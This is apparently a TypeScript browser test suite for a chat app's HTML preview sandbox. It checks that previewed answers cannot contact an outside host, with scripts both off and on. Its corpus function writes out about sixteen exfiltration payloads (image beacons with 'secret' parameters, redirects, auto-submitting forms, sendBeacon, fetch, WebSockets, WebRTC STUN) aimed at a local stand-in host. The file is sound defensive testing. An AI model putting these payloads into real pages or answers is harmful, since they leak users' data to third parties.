// The HTML preview cannot phone home: a corpus of answers that try (markup before the policy could land, CSS
// @import, refresh, location, window.open, forms, beacons, WebSockets, prefetch/preconnect, nested frames, WebRTC)
// is imported as a conversation through the product's own import and previewed in Chromium, scripts off and then
// on. A counting HTTP/UDP host on another port stands for "outside". Expected: no request and no connection reach
// it; the one documented exception is WebRTC's STUN packets when the user turns scripts on.
import { mkdtemp, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { appForSuite, screenshot } from './ui-harness/app-page';
import { startOutsideHost, type OutsideHost } from './ui-harness/outside-host';

/** Each answer holds one HTML block (and, for `import`, a sibling CSS block); OUT is the outside origin. */
function corpus(out: string, stun: string): Record<string, string> {
  const html = (code: string) => `Here you go:\n\n\`\`\`html\n${code}\n\`\`\`\n`;
  return {
    commentBeforeHead: html(
      `<!-- put the <head> here --><html><head><title>t</title></head><body><img src="${out}/comment-before-head?d=secret"></body></html>`,
    ),
    headInAString: html(
      `<!doctype html><script>var h = "<head>";</script><html><head></head><body><img src="${out}/head-in-a-string"></body></html>`,
    ),
    contentBeforeHead: html(
      `<img src="${out}/content-before-head"><img src="http://203.0.113.9/track.png"><html><head><style>body{background:url(${out}/bg)}</style></head><body>x</body></html>`,
    ),
    importInSiblingCss: `Styles:\n\n\`\`\`css\n@import url(${out}/css-import);\nbody { color: red }\n\`\`\`\n\n${html('<!doctype html><html><body><p>styled</p></body></html>')}`,
    metaRefresh: html(`<meta http-equiv="refresh" content="0;url=${out}/meta-refresh?d=secret"><p>wait</p>`),
    locationAssign: html(`<script>location.href = "${out}/location?d=" + document.title;</script>`),
    locationLater: html(
      `<p>soon</p><script>setTimeout(() => { location.href = "${out}/location-later?d=1"; }, 200);</script>`,
    ),
    windowOpen: html(
      `<script>window.open("${out}/window-open?d=1"); open("${out}/window-open-2", "_top");</script>`,
    ),
    formSubmit: html(
      `<form action="${out}/form" method="post"><input name="d" value="secret"></form><script>document.forms[0].submit();</script>`,
    ),
    beaconFetchXhr: html(
      `<script>navigator.sendBeacon("${out}/beacon", "secret"); fetch("${out}/fetch").catch(() => {}); const x = new XMLHttpRequest(); x.open("GET", "${out}/xhr"); x.send();</script>`,
    ),
    webSocket: html(
      `<script>try { new WebSocket("ws://127.0.0.1:${new URL(out).port}/ws"); } catch {}</script>`,
    ),
    prefetchPreconnect: html(
      `<link rel="prefetch" href="${out}/prefetch"><link rel="preconnect" href="http://localhost:${new URL(out).port}"><link rel="dns-prefetch" href="//example.org"><link rel="preload" as="image" href="${out}/preload"><link rel="stylesheet" href="${out}/sheet.css"><p>links</p>`,
    ),
    nestedFrames: html(
      `<iframe src="${out}/iframe"></iframe><object data="${out}/object"></object><embed src="${out}/embed"><video src="${out}/video"></video><audio src="${out}/audio"></audio><svg><image href="${out}/svg-image"/></svg>`,
    ),
    linkClick: html(
      `<a id="go" href="${out}/link-click?d=1">go</a><script>setTimeout(() => document.getElementById("go").click(), 200);</script>`,
    ),
    baseAndFavicon: html(
      `<base href="${out}/"><link rel="icon" href="${out}/favicon.ico"><img src="relative.png">`,
    ),
    webRtc: html(
      `<script>const pc = new RTCPeerConnection({ iceServers: [{ urls: "stun:${stun}" }] }); pc.createDataChannel("d"); pc.createOffer().then((o) => pc.setLocalDescription(o));</script>`,
    ),
  };
}

const app = appForSuite();
let outside: OutsideHost;
let names: string[];

describe('HTML preview: nothing leaves the browser', () => {
  beforeAll(async () => {
    outside = await startOutsideHost();
    const answers = corpus(outside.origin, `${outside.udpHost}:${outside.port}`);
    names = Object.keys(answers);
    const now = Date.now();
    const messages = Object.entries(answers).flatMap(([name, text], i) => [
      { id: `u${i}`, role: 'user', text: `Payload ${name}`, imageIds: [], createdAt: now + i },
      { id: `a${i}`, role: 'assistant', text, imageIds: [], createdAt: now + i, status: 'done' },
    ]);
    const file = path.join(await mkdtemp(path.join(os.tmpdir(), 'ui-preview-')), 'corpus.json');
    await writeFile(
      file,
      JSON.stringify({
        format: 'llava-browser-conversations',
        version: 1,
        exportedAt: new Date(now).toISOString(),
        images: [],
        conversations: [
          { id: 'c-corpus', title: 'Preview corpus', createdAt: now, updatedAt: now, messages },
        ],
      }),
    );
    await app.page.setInputFiles('#import-chat', file);
    await app.page.waitForFunction(
      (n) => document.querySelectorAll('button[aria-label^="Preview HTML code block"]').length >= n,
      names.length,
    );
  });
  afterAll(async () => {
    await outside?.close();
  });

  it('with scripts off (the default), no payload reaches the outside host', async () => {
    const { page } = app;
    const buttons = page.locator('button[aria-label^="Preview HTML code block"]');
    for (let i = 0; i < names.length; i++) await buttons.first().click();
    const frames = page.locator('iframe.html-preview-frame');
    await expect.poll(() => frames.count()).toBe(names.length);
    for (let i = 0; i < names.length; i++) expect(await frames.nth(i).getAttribute('sandbox')).toBe('');
    await page.waitForTimeout(3000);
    expect(outside.requests).toEqual([]);
    expect(outside.connections()).toBe(0);
    expect(outside.datagrams()).toBe(0);
    expect(app.browser.blockedRequests).toEqual([]);
    // The previews did render (the policy blocks loads, not the page).
    const styled = page.frameLocator('iframe.html-preview-frame').nth(names.indexOf('importInSiblingCss'));
    expect(await styled.locator('p').textContent()).toBe('styled');
  });

  it('with scripts on, no request gets out; a script can still signal (the documented exception)', async () => {
    const { page } = app;
    outside.reset();
    const toggles = page.locator('.html-preview-scripts input');
    for (let i = 0; i < names.length; i++) await toggles.nth(i).check();
    expect(await page.locator('.html-preview-scripts input:checked').count()).toBe(names.length);
    await page.waitForTimeout(4000);
    expect(outside.requests).toEqual([]);
    expect(app.browser.blockedRequests).toEqual([]);
    // Frames that tried to navigate after they loaded were replaced by a notice.
    const stopped = await page.evaluate(() =>
      [...document.querySelectorAll('.html-preview')].map(
        (f) => f.querySelector('.html-preview-left') !== null,
      ),
    );
    for (const name of ['metaRefresh', 'locationLater', 'linkClick'])
      expect(stopped[names.indexOf(name)], name).toBe(true);
    // The caption says plainly what scripts can still do.
    expect(await page.locator('.html-preview figcaption').first().textContent()).toContain('WebRTC');
    // The exception is real: blocked frames and navigations still open a connection (no request on it), and
    // WebRTC sends STUN where the machine has an interface it uses (it gathers no loopback candidates).
    expect(outside.connections()).toBeGreaterThan(0);
    if (outside.udpReachable) expect(outside.datagrams()).toBeGreaterThan(0);
    // The app's own frame-src is what refused those navigations: each report names the outside host and nothing
    // else. They are the policy working, so they are taken off the list the harness fails the suite on.
    const reports = app.browser.cspViolations;
    const refused = reports.filter((r) => r.includes(`frame-src refused ${outside.origin}`));
    expect(refused.length).toBeGreaterThan(0);
    expect(reports.filter((r) => !refused.includes(r) && !r.includes('Framing'))).toEqual([]);
    reports.length = 0;
    await page.locator('.html-preview').nth(names.indexOf('metaRefresh')).scrollIntoViewIfNeeded();
    await screenshot(page, 'preview-corpus');
  });

  it('brings a new question into view even when the user had scrolled up the long chat', async () => {
    const { page } = app;
    await page.locator('.message-list').evaluate((list) => list.scrollTo({ top: 0 }));
    await page.waitForTimeout(300);
    await page.fill('#composer-input', 'One more?');
    await page.press('#composer-input', 'Enter');
    await page.waitForFunction(() => {
      const users = document.querySelectorAll('.message-user');
      const last = users[users.length - 1];
      const list = document.querySelector('.message-list');
      if (!last?.textContent?.includes('One more?') || !list) return false;
      const box = last.getBoundingClientRect();
      const view = list.getBoundingClientRect();
      return box.top >= view.top && box.bottom <= view.bottom;
    });
  });
});
